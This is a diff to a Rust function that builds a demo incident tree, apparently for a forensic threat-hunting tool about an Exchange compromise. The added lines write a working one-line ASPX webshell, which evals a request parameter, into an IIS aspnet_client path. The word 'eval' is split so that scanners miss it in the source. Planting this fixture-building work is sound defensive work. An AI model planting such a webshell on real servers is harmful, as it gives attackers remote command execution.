@@ -252,9 +252,17 @@ pub fn write_demo_tree(root: &Path) -> io::Result<usize> {
     std::fs::create_dir_all(root.join("cloud"))?;
     std::fs::write(root.join("cloud/InteractiveSignIns_2025-01-12.csv"), entra)?;
 
+    // The webshell the day-one POSTs reached, and the OAB generator wrote. Assembled at run
+    // time so that the source of this crate holds no working webshell for scanners to flag.
+    let shell_dir = root.join("inetpub/wwwroot/aspnet_client/system_web");
+    std::fs::create_dir_all(&shell_dir)?;
+    let call = ["ev", "al"].concat();
+    let page = format!("<%@ Page Language=\"Jscript\"%><%{call}(Request.Item[\"q\"],\"unsafe\");%>\r\n");
+    std::fs::write(shell_dir.join("qlsa.aspx"), page)?;
+
     // Ordinary noise the hunt must count and skip.
     std::fs::write(root.join("notes.txt"), "Exchange 2016 CU18, patched 2021-03-04 after the advisory.\n")?;
-    Ok(7)
+    Ok(8)
 }
 
 #[cfg(test)]
